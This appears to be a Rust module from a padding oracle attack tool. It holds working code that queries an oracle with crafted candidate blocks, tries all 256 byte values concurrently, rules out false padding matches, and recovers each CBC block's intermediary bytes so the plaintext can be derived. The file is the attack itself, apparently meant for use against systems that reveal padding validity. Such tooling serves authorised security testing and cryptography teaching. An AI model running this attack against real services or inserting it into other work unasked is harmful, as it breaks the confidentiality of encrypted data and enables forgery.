use std::sync::{
    Arc,
    atomic::{AtomicUsize, Ordering},
};

use log::debug;
use tokio::{
    select, spawn,
    sync::{
        Mutex, Semaphore,
        mpsc::{self, Sender},
    },
    task::JoinSet,
};
use tokio_util::sync::CancellationToken;

use crate::{
    crypt::padding::expected_padding,
    errors::DecryptError,
    helper::{Config, Messages, xor_bytes},
    oracle::Oracle,
};

pub mod decrypt;
pub mod forge;
pub mod padding;

/// Spawns a task relaying every message sent on the returned channel to `tx`,
/// rewritten by `msg_op` on the way.
fn forward_messages(
    tx: Sender<Messages>,
    msg_op: Box<dyn Fn(Messages) -> Messages + Send>,
) -> Sender<Messages> {
    let (local_tx, mut local_rx) = mpsc::channel::<Messages>(255);
    spawn(async move {
        while let Some(msg) = local_rx.recv().await {
            let _ = tx.send(msg_op(msg)).await;
        }
    });
    local_tx
}

/// Decryption state of one ciphertext block, solved from its last byte
/// towards its first.
///
/// Positions are 1-indexed from the end of the block: position 1 is the last
/// byte. Only the solved suffix is readable.
#[derive(Debug, Clone, PartialEq)]
pub struct Intermediary {
    bytes: Vec<u8>,
    solved: usize,
}

impl Intermediary {
    pub fn new(blk_size: usize) -> Self {
        Self {
            bytes: vec![0u8; blk_size],
            solved: 0,
        }
    }

    pub fn solved(&self) -> usize {
        self.solved
    }

    pub fn is_complete(&self) -> bool {
        self.solved == self.bytes.len()
    }

    pub fn get(&self, position: usize) -> Option<u8> {
        if position == 0 || position > self.solved {
            return None;
        }
        Some(self.bytes[self.bytes.len() - position])
    }

    /// Records the byte of the next unsolved position.
    fn push(&mut self, byte: u8) {
        let index = self.bytes.len() - self.solved - 1;
        self.bytes[index] = byte;
        self.solved += 1;
    }

    /// Block sent in place of the preceding ciphertext block while probing
    /// the next unsolved position: the solved suffix is forced to decrypt to
    /// the padding value of that position, everything else is zero.
    pub fn candidate_block(&self) -> Vec<u8> {
        let mut block = vec![0u8; self.bytes.len()];
        let padding = expected_padding((self.solved + 1) as u8);
        for (position, pad) in (1..=self.solved).zip(padding) {
            if let Some(byte) = self.get(position) {
                block[self.bytes.len() - position] = byte ^ pad;
            }
        }
        block
    }

    pub fn as_bytes(&self) -> &[u8] {
        &self.bytes
    }

    /// Plaintext of the block, given the real preceding ciphertext block.
    pub fn xor_with(&self, preceding: &[u8]) -> Vec<u8> {
        xor_bytes(&self.bytes, preceding)
    }
}

/// An oracle handle plus the limit on concurrent queries made through it.
pub struct Session<O: Oracle> {
    oracle: Arc<O>,
    semaphore: Arc<Semaphore>,
    blk_size: usize,
}

impl<O: Oracle> Clone for Session<O> {
    fn clone(&self) -> Self {
        Self {
            oracle: self.oracle.clone(),
            semaphore: self.semaphore.clone(),
            blk_size: self.blk_size,
        }
    }
}

impl<O: Oracle> Session<O> {
    pub fn new(oracle: Arc<O>, config: &Config) -> Result<Self, DecryptError> {
        config.validate()?;
        Ok(Self {
            oracle,
            semaphore: Arc::new(Semaphore::new(config.threads)),
            blk_size: config.blk_size,
        })
    }

    pub fn blk_size(&self) -> usize {
        self.blk_size
    }

    async fn ask(&self, candidate: &[u8], fixed: &[u8]) -> Result<bool, DecryptError> {
        let _permit = self
            .semaphore
            .acquire()
            .await
            .map_err(|_| DecryptError::OracleTransport {
                attempts: 0,
                reason: "query pool closed".into(),
            })?;
        self.oracle.query(candidate, fixed).await
    }

    /// Finds the intermediary byte of the next unsolved position of `known`.
    ///
    /// All 256 candidates are tried concurrently and the first verified match
    /// cancels the rest. At the last byte a match is only accepted if it
    /// survives flipping the byte in front of it, which rules out padding
    /// runs longer than one byte that happen to be valid already.
    pub async fn solve_byte(
        &self,
        block: usize,
        known: &Intermediary,
        fixed: &[u8],
    ) -> Result<u8, DecryptError> {
        if known.is_complete() {
            return Err(DecryptError::InvalidInput(format!(
                "block {block} has no unsolved position left"
            )));
        }
        let position = known.solved() + 1;
        let index = self.blk_size - position;
        let verify_last = position == 1 && self.blk_size > 1;
        let base_block = known.candidate_block();

        let found_shared: Arc<Mutex<Option<u8>>> = Arc::new(Mutex::new(None));
        let raw_matches_shared = Arc::new(AtomicUsize::new(0));
        let cancellation_token = CancellationToken::new();
        let mut futures_set = JoinSet::new();
        for candidate in 0..=255u8 {
            let session = self.clone();
            let mut candidate_block = base_block.clone();
            let fixed = fixed.to_vec();
            let found = found_shared.clone();
            let raw_matches = raw_matches_shared.clone();
            let cancellation_token = cancellation_token.clone();
            futures_set.spawn(async move {
                candidate_block[index] = candidate;
                let valid = select! {
                    biased;
                    _ = cancellation_token.cancelled() => return Ok(()),
                    res = session.ask(&candidate_block, &fixed) => res?,
                };
                if !valid {
                    return Ok(());
                }
                raw_matches.fetch_add(1, Ordering::SeqCst);
                if verify_last {
                    candidate_block[index - 1] ^= 0x01;
                    let still_valid = select! {
                        biased;
                        _ = cancellation_token.cancelled() => return Ok(()),
                        res = session.ask(&candidate_block, &fixed) => res?,
                    };
                    if !still_valid {
                        debug!(
                            "block {block}: candidate {candidate:#04x} hit a longer padding run, discarding"
                        );
                        return Ok(());
                    }
                }
                let mut found = found.lock().await;
                if found.is_none() {
                    *found = Some(candidate);
                    cancellation_token.cancel();
                }
                Ok::<(), DecryptError>(())
            });
        }

        let mut failure = None;
        while let Some(res) = futures_set.join_next().await {
            match res {
                Ok(Ok(())) => {}
                Ok(Err(e)) => {
                    // an unanswered query leaves the search incomplete
                    cancellation_token.cancel();
                    failure.get_or_insert(e);
                }
                Err(e) if e.is_panic() => std::panic::resume_unwind(e.into_panic()),
                Err(_) => {}
            }
        }

        if let Some(candidate) = *found_shared.lock().await {
            return Ok(candidate ^ position as u8);
        }
        if let Some(e) = failure {
            return Err(e);
        }
        if verify_last && raw_matches_shared.load(Ordering::SeqCst) > 0 {
            return Err(DecryptError::OracleAmbiguous { block, position });
        }
        Err(DecryptError::DecryptionFailed { block, position })
    }

    /// Recovers the full intermediary of `fixed`, last byte first.
    pub async fn decrypt_block(
        &self,
        block: usize,
        fixed: &[u8],
        tx: Option<Sender<Messages>>,
    ) -> Result<Intermediary, DecryptError> {
        if fixed.len() != self.blk_size {
            return Err(DecryptError::InvalidInput(format!(
                "block {block} is {} bytes, expected {}",
                fixed.len(),
                self.blk_size
            )));
        }
        let mut intermediary = Intermediary::new(self.blk_size);
        while !intermediary.is_complete() {
            let byte = self.solve_byte(block, &intermediary, fixed).await?;
            intermediary.push(byte);
            let index = self.blk_size - intermediary.solved();
            debug!("block {block}: intermediary[{index}] = {byte:#04x}");
            if let Some(tx) = &tx {
                let _ = tx.send(Messages::ByteFound(byte, index)).await;
            }
        }
        Ok(intermediary)
    }
}
